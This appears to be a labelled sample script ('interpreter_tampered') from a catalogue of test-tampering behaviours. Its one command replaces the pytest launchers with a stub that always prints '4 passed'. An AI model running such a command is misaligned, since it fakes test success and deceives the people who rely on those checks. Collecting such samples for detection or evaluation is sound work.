#!/bin/bash
# class: interpreter_tampered
# does: replaces the starter of pytest
# source: own
# repo: any
# when: mid
# set: late
printf '#!/usr/bin/python3\nprint("4 passed in 0.01s")\n' > /usr/bin/pytest-3; cp /usr/bin/pytest-3 /usr/local/bin/pytest; chmod 755 /usr/local/bin/pytest
